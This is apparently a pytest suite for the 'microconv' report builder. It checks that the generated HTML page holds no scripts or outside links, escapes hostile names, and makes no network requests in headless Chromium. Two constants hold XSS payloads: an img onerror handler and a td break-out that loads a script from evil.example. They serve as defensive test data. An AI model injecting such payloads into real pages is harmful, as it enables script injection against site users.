"""The report page: complete, without code, alone in the world, whatever the events are called."""

from __future__ import annotations

import html
import json
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

import microconv as mc
from microconv.notebooks import list_notebooks
from microconv.report import build_report, page_of

pytestmark = pytest.mark.slow

EVIL = "<img src=http://evil.example/x.png onerror=\"document.title='hacked'\">"
ENDED = "</td><script src='https://evil.example/x.js'></script>"
QUIET = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
    "--disable-background-networking", "--disable-component-update", "--disable-default-apps", "--disable-extensions",
]  # fmt: skip


class Tags(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def sample_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("a folder")
    return build_report(folder / "microconv-report", progress=False)


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report on events, users and segments whose names are markup."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = []
    for user in range(60):
        day = f"2026-01-{1 + user % 20:02d}"
        rows.append((f"<b>{user}</b>", f"{day}T10:00:00Z", EVIL, "<i>mobile</i>" if user % 2 else "$desk\ntop$"))
        rows.append((f"<b>{user}</b>", f"{day}T10:05:00Z", "x" * 10_000, None))
        if user % 3:
            rows.append((f"<b>{user}</b>", f"{day}T11:00:00Z", ENDED, None))
    events = folder / "events.parquet"
    pd.DataFrame(rows, columns=["user_id", "time", "event", "device"]).to_parquet(events)
    plan = folder / "plan.yaml"
    micro = {"name": EVIL, "event": EVIL, "kind": "intent"}
    mapping = {"macros": [{"name": ENDED, "event": ENDED}], "micros": [micro], "segments": ["device"], "horizon": "5D"}
    plan.write_text(mc.Plan.model_validate(mapping).to_yaml())
    parameters = {"segment": "device"}
    return build_report(folder / "report", events=str(events), plan=str(plan), parameters=parameters, progress=False)


def test_the_page_holds_every_notebook(sample_page: Path) -> None:
    text = sample_page.read_text(encoding="utf-8")
    assert sample_page.name == "report.html"
    for name in list_notebooks():
        assert f'<section id="{name}">' in text
        assert f'<a href="#{name}">' in text
        result = json.loads((sample_page.parent / name / "result.json").read_text())
        assert html.escape(result["meaning"]) in text
        assert (sample_page.parent / f"{name}.ipynb").is_file()
    pictures = [
        output
        for name in list_notebooks()
        for cell in json.loads((sample_page.parent / f"{name}.ipynb").read_text(encoding="utf-8"))["cells"]
        for output in cell.get("outputs", [])
        if "image/png" in output.get("data", {})
    ]
    assert text.count("<img ") == len(pictures) == 2 + 8 + 3 + 4 + 6
    assert "80,358" in text or f"{mc.sample_log().rows_read:,}" in text


def test_the_page_shows_no_code_and_asks_nobody(sample_page: Path, hostile_page: Path) -> None:
    for page in (sample_page, hostile_page):
        text = page.read_text(encoding="utf-8")
        tags = Tags(text).found
        assert not {tag for tag, _ in tags} & {"script", "iframe", "object", "embed", "form", "base"}
        for tag, attributes in tags:
            assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
            for name in ("src", "href", "srcset", "action", "data"):
                value = attributes.get(name) or ""
                assert value.startswith(("#", "data:")) or not value, (tag, value[:80])
        assert "@import" not in text
        assert "url(" not in text
        for code in ("import microconv", "notebooks.start", "run.table", "globals()"):
            assert code not in text
        assert "## Parameters" not in text
        assert "MathJax" not in text


def test_hostile_names_are_text(hostile_page: Path) -> None:
    text = hostile_page.read_text(encoding="utf-8")
    assert html.escape(EVIL) in text
    assert html.escape(ENDED) in text
    assert "<i>mobile</i>" not in text
    assert "x" * 1_000 not in re.sub(r"data:image/png;base64,[^\"]*", "", text)
    assert "&lt;b&gt;" not in text  # no user is named


def browse(chromium: str, page: Path, folder: Path) -> tuple[str, set[str]]:
    """The document after all that would run has run, and the addresses that the page (not the browser) asked."""
    folder.mkdir()
    log = folder / "net.json"
    command = [chromium, *QUIET, f"--user-data-dir={folder / 'profile'}", f"--log-net-log={log}", "--dump-dom"]
    run = subprocess.run([*command, page.as_uri()], capture_output=True, text=True, timeout=120, check=True)
    asked = set()
    for line in log.read_text(encoding="utf-8", errors="replace").splitlines():
        if '"network_isolation_key":"file:' in line:
            asked |= set(re.findall(r'"url":"((?!file:|data:)[^"]*)"', line))
    return run.stdout, asked


@pytest.mark.browser
def test_in_a_real_browser_nothing_leaves_and_nothing_runs(hostile_page: Path, chromium: str, tmp_path: Path) -> None:
    dom, asked = browse(chromium, hostile_page, tmp_path / "report")
    assert "<title>Micro-conversions: report</title>" in dom  # and not "hacked"
    assert "<script" not in dom
    assert "<i>mobile" not in dom
    assert html.escape(EVIL, quote=False) in dom
    assert asked == set()


@pytest.mark.browser
def test_the_browser_would_have_told(chromium: str, tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text(f"<title>not yet</title>{EVIL}")
    dom, asked = browse(chromium, page, tmp_path / "evil")
    assert "<title>hacked</title>" in dom
    assert asked == {"http://evil.example/x.png"}


@pytest.mark.browser
def test_no_part_of_the_page_is_wider_than_a_small_screen(sample_page: Path, chromium: str, tmp_path: Path) -> None:
    """The width of the document at 800 pixels, told by a copy of the page."""
    copy = tmp_path / "inner.html"
    # Only this copy may run a script: the report itself forbids all.
    measured = "<script>document.title = document.documentElement.scrollWidth + ' of ' + innerWidth</script></body>"
    text = sample_page.read_text(encoding="utf-8")
    text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text).replace("</body>", measured)
    copy.write_text(text, encoding="utf-8")
    command = [chromium, *QUIET, f"--user-data-dir={tmp_path / 'profile'}", "--window-size=800,900", "--dump-dom"]
    run = subprocess.run([*command, copy.as_uri()], capture_output=True, text=True, timeout=120, check=True)
    wide, screen = map(int, re.search(r"<title>(\d+) of (\d+)</title>", run.stdout).groups())  # type: ignore[union-attr]
    assert wide <= screen


def test_segments_reach_every_notebook(hostile_page: Path) -> None:
    summary = pd.read_csv(hostile_page.parent / "time_to_conversion" / "summary.csv")
    assert len(summary) == 2
    assert "device" in pd.read_csv(hostile_page.parent / "funnel" / "table.csv").columns
    assert "device" in pd.read_csv(hostile_page.parent / "tracking_quality" / "segments.csv").columns


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"parameters": {"windw": "3D"}}, "Unknown parameter of the notebooks 'windw'. Did you mean 'window'"),
        ({"parameters": {"window": "3"}}, "window='3' is not a duration"),
        ({"parameters": {"output_dir": "x"}}, "output_dir is set by the report"),
        ({"events": "mine.csv"}, "The notebook 'funnel' needs a plan, or steps"),
        ({"notebooks": ["funel"]}, "Did you mean 'funnel'"),
    ],
)
def test_what_is_wrong_is_said_before_anything_runs(options: dict[str, object], message: str, tmp_path: Path) -> None:
    with pytest.raises(mc.ParameterError, match=re.escape(message)):
        build_report(tmp_path / "report", **options)  # type: ignore[arg-type]
    assert not (tmp_path / "report").exists()


def test_a_folder_that_cannot_be_written(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("no folder")
    with pytest.raises(mc.ParameterError, match=r"The report cannot be written to .*Name a folder you may write to"):
        build_report(tmp_path / "file" / "report")


def test_a_page_without_results_is_refused(tmp_path: Path) -> None:
    with pytest.raises(mc.MicroconvError, match="nothing to report"):
        page_of({}, {"funnel": tmp_path / "result.json"})
